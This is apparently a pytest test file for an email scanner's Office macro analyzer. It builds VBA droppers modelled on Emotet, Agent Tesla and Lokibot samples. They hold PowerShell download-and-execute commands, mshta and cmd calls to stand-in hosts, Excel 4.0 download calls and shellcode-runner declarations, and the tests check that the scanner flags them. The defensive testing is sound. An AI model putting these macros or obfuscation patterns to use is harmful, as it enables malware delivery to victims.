"""Real droppers, not our old fixtures: the document hands the macro its command line (form
controls, the Word body, variables), the project's own functions decode it, and what the
macro does as a whole gives it away. Shapes taken from the real documents in
../shared/corpus/maldocs (read in memory at the end of this file, never written to disk).
"""

from __future__ import annotations

import time

import pytest
from cases import with_attachment

from mailcheck.analyzers.office import doc_stores, vba_fold, vba_traits
from mailcheck.api import scan_bytes
from mailcheck.model import Finding, ScanResult
from testkit.office import build_doc, build_docm, build_vba_project, build_xlsm

DOWNLOADER = "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
URL = "hxxp://203[.]0[.]113[.]9/a.ps1"


def folded(code: str, stores: dict[str, str] | None = None) -> vba_fold.Folded:
    return vba_fold.fold(code, (), stores)


def critical(result: ScanResult) -> Finding:
    return next(f for f in result.findings if f.id == "attachment.macro.autoexec_exec")


def docm(code: str, **kwargs: object) -> ScanResult:
    data = build_docm(build_vba_project(host="word", document_code=code), **kwargs)  # type: ignore[arg-type]
    mime = "application/vnd.ms-word.document.macroEnabled.12"
    return scan_bytes(with_attachment(data, "invoice.docm", mime))


def xlsm(code: str) -> ScanResult:
    data = build_xlsm(build_vba_project(host="excel", document_code=code))
    mime = "application/vnd.ms-excel.sheet.macroEnabled.12"
    return scan_bytes(with_attachment(data, "invoice.xlsm", mime))


# --- what the document keeps, read by the names the macro uses ------------------------------


def test_form_controls_are_read_by_form_and_name() -> None:
    # Emotet 2020: the command line split over a TextBox value and a hidden GroupName.
    code = (
        "Function Build()\n"
        "  x = Bimq.Banz + Bimq.Cvlp.GroupName\n"
        '  Build = Join(Split(x, "//==//"), "")\n'
        "End Function\n"
        "Sub Document_Open()\n"
        '  Set w = GetObject("winmgmts:Win32_Process")\n'
        "  w.Create Build, Null, Null\n"
        "End Sub\n"
    )
    stores = {
        "bimq.banz": "po//==//wer//==//shell -w hidden -e ",
        "bimq.cvlp.groupname": "JAB//==//1AHIAbAA=",
    }
    result = folded(code, stores)
    assert "powershell -w hidden -e JAB1AHIAbAA=" in result.strings
    assert set(result.store_reads) == {"bimq.banz", "bimq.cvlp.groupname"}


@pytest.mark.parametrize(
    "expression",
    [
        "ActiveDocument.Content.Text",
        "ActiveDocument.Content",
        "ThisDocument.Range.Text",
        "Xpriz.StoryRanges.Item(222 / 222)",  # Xpriz is the document's own module
        "ActiveDocument.StoryRanges(1)",
    ],
)
def test_the_document_body_is_read_through_its_many_names(expression: str) -> None:
    code = 'Attribute VB_Name = "Xpriz"\nAttribute VB_Base = "1Normal.ThisDocument"\n'
    assert vba_fold.evaluate(expression, code, {"@body": "cmd /c calc"}) == "cmd /c calc"


@pytest.mark.parametrize(
    ("expression", "key"),
    [
        ('ActiveDocument.Variables("cfg").Value', "@var.cfg"),
        ('ActiveDocument.Variables.Item("CFG").Value', "@var.cfg"),
        ('ThisDocument.CustomDocumentProperties("Payload")', "@prop.payload"),
        ('ActiveDocument.BuiltInDocumentProperties("Comments").Value', "@builtin.comments"),
        ("ActiveDocument.Paragraphs(2).Range.Text", "@paragraph.2"),
        ('ActiveDocument.Shapes("Pic 1").AlternativeText', "@alt.pic 1"),
        ("ActiveDocument.Shapes(1).TextFrame.TextRange.Text", "@shape.1"),
    ],
)
def test_variables_properties_paragraphs_and_shapes(expression: str, key: str) -> None:
    assert vba_fold.evaluate(expression, "", {key: "mshta http://x.example/a"}) == (
        "mshta http://x.example/a"
    )


def test_a_name_no_store_holds_stays_unknown() -> None:
    assert vba_fold.evaluate("UserForm1.TextBox9.Text", "", {"userform1.textbox1": "a"}) is None
    assert vba_fold.evaluate("ActiveDocument.Name", "", {"@body": "a"}) is None


def test_a_form_that_could_not_be_read_still_answers_for_its_controls() -> None:
    stores = doc_stores.Stores()
    forms = [
        ("UserForm1", None, ["Tahoma", "80,75,3,4,20,0,0,0"]),  # oleform failed on this form
        ("UserForm2", [{"name": b"TextBox1", "value": b"cmd /c x", "tag": b"t"}], []),
    ]
    doc_stores.form_controls(iter(forms), stores)
    assert stores.values["userform1.*"] == "80,75,3,4,20,0,0,0"
    assert stores.values["userform2.textbox1"] == "cmd /c x"
    assert stores.values["textbox1.tag"] == "t"
    assert vba_fold.evaluate("UserForm1.TextBox1.Text", "", stores.values) == "80,75,3,4,20,0,0,0"


def test_a_long_field_olevba_misplaces_is_taken_from_the_plain_strings() -> None:
    exact = " " * 200 + "JABsAGEA" * 40
    misread = "\xff.\x00" + exact[:-5]
    stores = doc_stores.Stores()
    control = {"name": b"C", "value": b"0", "group_name": misread.encode("latin-1")}
    forms = [("F", [control], [exact])]
    doc_stores.form_controls(iter(forms), stores)
    assert stores.values["f.c.groupname"] == exact


# --- the project's own procedures -------------------------------------------------------------


def test_a_function_with_arguments_is_run() -> None:
    # Agent Tesla 2020: every character through a shift function.
    shifted = " & ".join(f"oie({ord(c) + 22})" for c in "mshta http://x.example/p")
    code = (
        "Function oie(w As Integer)\n  oie = Chr(w - 22)\nEnd Function\n"
        f"Sub Workbook_Open()\n  c = {shifted}\n"
        '  CreateObject("WScript.Shell").Run c, 0\nEnd Sub\n'
    )
    assert "mshta http://x.example/p" in folded(code).strings


def test_a_decoding_loop_with_the_mid_statement() -> None:
    # Lokibot 2020: Mid(s, i, 1) = Chr(Asc(Mid(s, i, 1)) - 33) over a shifted literal,
    # including bytes that cp1252 leaves undefined (Windows keeps them).
    plain = "powershell -c (new-object Net.WebClient).DownloadFile('http://x.example/l.exe')"
    encoded = "".join(chr(ord(c) + 33) for c in plain)
    literal = encoded.replace('"', '""')
    code = (
        "Public Function Dec(s As String)\n"
        "  Dim k As Integer, i As Integer\n  k = 33\n"
        "  For i = 1 To Len(s)\n"
        "    Mid(s, i, 1) = Chr(Asc(Mid(s, i, 1)) - k)\n"
        "  Next i\n"
        "  Dec = s\nEnd Function\n"
        f'Sub Workbook_Open()\n  Shell (Dec("{literal}"))\nEnd Sub\n'
    )
    assert plain in folded(code).strings


def test_xor_loops_and_identity_functions() -> None:
    key = 7
    secret = "winmgmts:Win32_Process"
    numbers = ", ".join(str(ord(c) ^ key) for c in secret)
    code = (
        "Function f(x)\n  f = x\nEnd Function\n"
        "Function d(a)\n  For Each n In a\n    r = r & Chr(n Xor 7)\n  Next\n"
        "  d = r\nEnd Function\n"
        f'Sub AutoOpen()\n  GetObject(f(d(Array({numbers})))).Create "calc"\nEnd Sub\n'
    )
    assert vba_fold.evaluate(f"d(Array({numbers}))", code) == secret
    assert secret in folded(code).strings


def test_if_blocks_take_the_branch_a_known_condition_picks() -> None:
    code = (
        "Function Pick(n)\n"
        '  If n > 2 Then\n    Pick = "big"\n  ElseIf n = 2 Then\n    Pick = "two"\n'
        '  Else\n    Pick = "small"\n  End If\nEnd Function\n'
    )
    assert [vba_fold.evaluate(f"Pick({n})", code) for n in (1, 2, 3)] == ["small", "two", "big"]


def test_names_nothing_assigns_are_empty() -> None:
    # Emotet: Replace(x, filler, Kha8adw86gw10m) where the variable is never assigned.
    code = 'Sub AutoOpen()\n  Shell Replace("pQ)(owQ)(ershell -nop", "Q)(", NeverSet)\nEnd Sub\n'
    assert "powershell -nop" in folded(code).strings


def test_wd_key_constants_spell_letters() -> None:
    assert vba_fold.evaluate("ChrW(wdKeyP) & ChrW(vbKeyS)") == "PS"


def test_callbyname_is_a_sink() -> None:
    code = (
        "Sub AutoOpen()\n"
        '  c = "mshta " & "http://x.example/h"\n'
        '  CallByName CreateObject("WScript.Shell"), "Run", VbMethod, c\n'
        "End Sub\n"
    )
    assert "mshta http://x.example/h" in folded(code).strings


def test_a_call_inside_array_is_a_sink() -> None:
    code = (
        "Sub AutoOpen()\n"
        '  a = Array(1, CreateObject("WScript.Shell").Exec("cmd /c " & "calc"))\n'
        "End Sub\n"
    )
    assert "cmd /c calc" in folded(code).strings


def test_recursion_and_endless_loops_end_within_the_bounds() -> None:
    code = (
        'Function R(x)\n  R = R(x & "a") & "b"\nEnd Function\n'
        "Function Spin()\n  Do\n    n = n + 1\n  Loop\nEnd Function\n"
        'Function Long()\n  For i = 1 To 1000000000\n    s = s & "x"\n  Next\n'
        "  Long = s\nEnd Function\n"
        'Sub AutoOpen()\n  Shell R("q") & Spin() & Long()\nEnd Sub\n'
    )
    started = time.monotonic()
    result = folded(code)
    assert time.monotonic() - started < 20  # a hang guard; bounded by steps and calls
    assert result.code_lines >= 15  # it came back having looked at every statement


# --- traits of what the macro does as a whole ------------------------------------------------


def test_stored_text_handed_to_a_call_that_runs_it() -> None:
    code = 'Sub AutoOpen()\n  CreateObject("WScript.Shell").Run UserForm1.T.Text\nEnd Sub\n'
    result = folded(code, {"userform1.t": "notepad"})
    traits = vba_traits.behaviour_traits(code, result.store_reads, result.strings)
    assert [t.kind for t in traits] == ["stored_command"]


def test_reading_a_control_without_running_anything_is_no_trait() -> None:
    code = 'Sub AutoOpen()\n  MsgBox UserForm1.T.Text\n  Application.Run "Report"\nEnd Sub\n'
    result = folded(code, {"userform1.t": "hello"})
    assert vba_traits.behaviour_traits(code, result.store_reads, result.strings) == ()


def test_a_file_written_from_the_document_and_run() -> None:
    code = (
        "Sub Workbook_Open()\n"
        '  b = Split(UserForm1.TextBox1.Text, ",")\n'
        "  Open p For Binary Access Write As #2\n  Put #2, , b\n  Close #2\n"
        '  CreateObject("WScript.Shell").Run "cmd /c " & p\n'
        "End Sub\n"
    )
    result = folded(code, {"userform1.*": "80,75,3,4"})
    kinds = {t.kind for t in vba_traits.behaviour_traits(code, result.store_reads, ())}
    assert kinds == {"stored_command", "document_drop"}


def test_its_own_file_read_back_and_run() -> None:
    code = (
        "Sub Document_Open()\n  f = ActiveDocument.FullName\n"
        "  Open f For Binary Access Read As #1\n  Get #1, , s\n  Close #1\n"
        "  Open z For Output As #2\n  Print #2, Right(s, 900)\n  Close #2\n"
        '  Call Shell("cmd /c " & z, vbHide)\nEnd Sub\n'
    )
    kinds = [t.kind for t in vba_traits.behaviour_traits(code, (), ())]
    assert kinds == ["document_drop"]
    # Writing next to its own file name without reading its bytes is an add-in's business.
    benign = code.replace("Get #1, , s", "s = f")
    assert vba_traits.behaviour_traits(benign, (), ()) == ()


def test_shellcode_copied_and_called_back() -> None:
    code = (
        'Private Declare PtrSafe Function VirtualAllocEx Lib "kernel32" (ByVal h As Long) As Long\n'
        'Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As Long) As Long\n'
        'Private Declare Function EnumDateFormatsW Lib "kernel32" (ByVal f As Long) As Long\n'
        "Sub Document_Open()\n  a = VirtualAllocEx(-1)\n  RtlMoveMemory a\n"
        "  EnumDateFormatsW a\nEnd Sub\n"
    )
    kinds = [t.kind for t in vba_traits.behaviour_traits(code, (), ())]
    assert kinds == ["shellcode_runner"]
    no_jump = "\n".join(line for line in code.splitlines() if "EnumDateFormats" not in line)
    assert vba_traits.behaviour_traits(no_jump, (), ()) == ()


# --- end to end: documents built here ---------------------------------------------------------


def test_a_downloader_behind_a_content_control_event_is_malicious() -> None:
    code = (
        "Private Sub Document_ContentControlOnEnter(ByVal c As Object)\n"
        f'  Shell "{DOWNLOADER}", 0\nEnd Sub\n'
    )
    result = docm(code)
    assert result.verdict.label == "malicious"
    assert critical(result).facts()["autoexec"] == "Document_ContentControlOnEnter"


def test_a_binary_word_document_whose_body_holds_the_command() -> None:
    code = (
        "Sub Document_Open()\n"
        "  t = ThisDocument.StoryRanges.Item(1)\n"
        '  c = Replace(Mid(t, 3, Len(t)), "zz", "")\n'
        '  GetObject("winmgmts:Win32_Process").Create c, Null, Null\n'
        "End Sub\n"
    )
    body = "xx" + DOWNLOADER.replace("power", "pozzwer").replace("Client", "Clzzient") + "\r"
    doc = build_doc(build_vba_project(host="word", document_code=code), body)
    result = scan_bytes(with_attachment(doc, "invoice.doc", "application/msword"))
    assert result.verdict.label == "malicious"
    facts = critical(result).facts()
    assert facts["urls"] == URL
    assert facts["recovered"].startswith("powershell -w hidden -c IEX")
    assert "stored_command" in facts["traits"]


def test_a_document_variable_holds_the_command() -> None:
    code = 'Sub AutoOpen()\n  Shell ActiveDocument.Variables("cfg").Value, 0\nEnd Sub\n'
    result = docm(code, variables={"cfg": DOWNLOADER})
    assert result.verdict.label == "malicious"
    facts = critical(result).facts()
    assert facts["urls"] == URL
    assert "stored_command: reads @var.cfg" in facts["traits"]


def test_excel4_call_from_vba_is_malicious() -> None:
    code = (
        "Sub Workbook_Open()\n"
        '  ExecuteExcel4Macro "CALL(""Kernel32"",""WinExec"",""JCJ"",""rundll32 x.dll,Start"",0)"\n'
        "End Sub\n"
    )
    result = xlsm(code)
    assert result.verdict.label == "malicious"
    assert "xlm_call" in critical(result).facts()["traits"]


def test_the_urls_are_in_both_languages_and_in_the_facts() -> None:
    from mailcheck import catalog

    code = 'Sub AutoOpen()\n  Shell ActiveDocument.Variables("cfg").Value, 0\nEnd Sub\n'
    hit = critical(docm(code, variables={"cfg": DOWNLOADER}))
    for lang in ("en", "ja"):
        assert URL in catalog.load().texts(hit.id, lang, hit.facts()).explanation


def test_a_business_macro_reading_its_form_stays_below_malicious() -> None:
    code = (
        "Private Sub Workbook_Open()\n  MsgBox UserForm1.TextBox1.Text\n"
        '  Application.Run "Refresh"\n  Set d = CreateObject("Scripting.Dictionary")\nEnd Sub\n'
    )
    assert xlsm(code).verdict.label != "malicious"


def test_junk_assigned_to_array_elements_counts_as_junk() -> None:
    lines = [f"X({n}) = {n * 7} + Int(U{n}) + B{n} + Sin(Q{n})" for n in range(30)]
    result = folded("Sub AutoOpen()\n" + "\n".join(lines) + "\nEnd Sub\n")
    assert result.junk_lines == 30 and result.junk_arithmetic
    # An array filled with constants is data, not junk.
    data = [f"T({n}) = {n * 7} + {n}" for n in range(30)]
    assert folded("Sub AutoOpen()\n" + "\n".join(data) + "\nEnd Sub\n").junk_lines == 0


# --- the real malware documents (../shared/corpus/maldocs), read in memory only -------------

MACRO_FORMATS = ("ole2-word", "ole2-excel", "ooxml-docm", "ooxml-xlsm", "ooxml-xlam")


def _real_macro_documents() -> list[tuple[dict[str, str], bytes]]:
    from testkit import maldocs

    if not (maldocs.MALDOCS / "index.csv").is_file():
        pytest.skip("../shared/corpus/maldocs is absent (a clone without the shared corpus)")
    return [(row, data) for row, data in maldocs.maldocs() if row["format"] in MACRO_FORMATS]


def test_every_real_macro_document_is_malicious_and_shows_its_urls() -> None:
    from testkit import maldocs

    verdicts: dict[str, str] = {}
    urls: dict[str, list[str]] = {}
    for row, data in _real_macro_documents():
        result = scan_bytes(maldocs.as_mail(row["member"], data))
        key = f"{row['family']}/{row['format']}/{row['member'][:12]}"
        verdicts[key] = result.verdict.label
        urls[key] = maldocs.shown_urls(result)
    assert len(verdicts) >= 25
    assert {k for k, v in verdicts.items() if v != "malicious"} == set()
    # Emotet 2020: the PowerShell in the forms decodes to the five-URL download loop.
    emotet = {k: v for k, v in urls.items() if k.startswith("emotet/ole2-word/")}
    assert emotet and all(len(v) == 5 for v in emotet.values()), emotet
    assert "hxxp://posqit[.]net/vcv/120131078.exe" in urls["lokibot/ole2-excel/de8e60c9b433"]


# --- PowerShell string obfuscation and URLs in Excel 4.0 sheets ------------------------------


def test_powershell_cut_up_and_formatted_still_shows_its_urls() -> None:
    from mailcheck.analyzers.office import ps_fold

    script = (
        "$a=[tyPE](\"{1}{0}\" -f 'eT.WebClient','N');$d=N`eW-`o`BjEct NeT.weBClIeNT;"
        "$u=(('ht'+('tp'+':Q')+')'+('(qd'+'d)(Q)(qdd)(')+('x.exa'+'mple')+'/a.exe@'"
        "+('h'+'ttps:Q)(qdd)(Q)(qdd)(y.example/b'))."
        "\"RepLa`CE\"((('Q)(qdd)(')),([array]('/'),('hwe'))[0]).\"SP`Lit\"([char]64);"
    )
    assert ps_fold.looks_obfuscated(script)
    simple = ps_fold.simplify(script)
    assert "'NeT.WebClient'" in simple
    assert vba_fold.urls([script]) == ["http://x.example/a.exe", "https://y.example/b"]


def test_powershell_folding_is_bounded() -> None:
    from mailcheck.analyzers.office import ps_fold

    nested = "(" * 5000 + "'a'" + ")" * 5000 + "+'b'" * 20000
    started = time.monotonic()
    ps_fold.simplify(nested)
    assert time.monotonic() - started < 10  # a hang guard


def test_urls_in_excel4_formulas_are_listed() -> None:
    from mailcheck.analyzers.office import xlm
    from mailcheck.analyzers.office.hits import xlm_hits

    collector = xlm.Collector("biff")
    collector.sheet("Macro1", "very hidden")
    collector.formula(
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example/a.dll","c:\\a",0,0)'
    )
    collector.formula('=FORMULA("https://y.example/b.ocx",A1)')
    report = collector.report()
    assert report is not None and report.urls == (
        "http://x.example/a.dll",
        "https://y.example/b.ocx",
    )
    (hit,) = xlm_hits(report, "attachment 2", "a.xls")
    assert (
        dict(hit.evidence[0].facts)["urls"] == "hxxp://x[.]example/a.dll, hxxps://y[.]example/b.ocx"
    )


# --- ActiveX controls placed on the document (Emotet 2019) -----------------------------------


def test_a_textbox_on_a_binary_word_page_holds_the_command() -> None:
    code = (
        "Sub Document_Open()\n"
        '  c = Replace(ThisDocument.TextBox1.Text & TextBox2, "]a[", "")\n'
        '  CreateObject("WScript.Shell").Run c, 0\n'
        "End Sub\n"
    )
    half = len(DOWNLOADER) // 2
    controls = {
        "TextBox1": DOWNLOADER[:half].replace("e", "]a[e"),
        "TextBox2": DOWNLOADER[half:],
    }
    doc = build_doc(build_vba_project(host="word", document_code=code), "Invoice\r", controls)
    result = scan_bytes(with_attachment(doc, "invoice.doc", "application/msword"))
    assert result.verdict.label == "malicious"
    facts = critical(result).facts()
    assert facts["urls"] == URL
    assert "stored_command: reads textbox1" in facts["traits"]


def test_a_textbox_in_an_ooxml_document_holds_the_command() -> None:
    code = "Sub AutoOpen()\n  Shell ActiveDocument.TB.Value, 0\nEnd Sub\n"
    result = docm(code, controls={"TB": DOWNLOADER})
    assert result.verdict.label == "malicious"
    assert critical(result).facts()["urls"] == URL


def test_custom_properties_of_a_binary_document() -> None:
    from testkit.office import custom_property_set

    stream = custom_property_set({"Payload": "cmd /c calc", "Owner": "Finance"})
    assert list(doc_stores.custom_properties(stream)) == [
        ("Payload", "cmd /c calc"),
        ("Owner", "Finance"),
    ]
    assert list(doc_stores.custom_properties(stream[:60])) == []  # cut short: nothing
    code = (
        "Sub Document_Open()\n"
        '  Shell ThisDocument.CustomDocumentProperties("Payload"), 0\nEnd Sub\n'
    )
    vba = build_vba_project(host="word", document_code=code)
    doc = build_doc(vba, "Invoice\r", properties={"Payload": DOWNLOADER})
    result = scan_bytes(with_attachment(doc, "invoice.doc", "application/msword"))
    assert result.verdict.label == "malicious"
    assert critical(result).facts()["urls"] == URL


def test_urls_in_the_cells_an_excel4_sheet_reads() -> None:
    from mailcheck.analyzers.office import xlm

    collector = xlm.Collector("biff")
    collector.sheet("Macro1", "hidden")
    sst = b"\xfc\x00\x33\x00\x01\x00(\x00\x00https://x.example/19.gif\xff\x00"
    xmp = b'<x:xmpmeta xmlns:xmp="http://ns.adobe.com/xap/1.0/">'
    collector.cell_text(sst + xmp + b"http://y.example/a.dll\x00")
    report = collector.report()
    assert report is not None
    assert report.urls == ("https://x.example/19.gif", "http://y.example/a.dll")
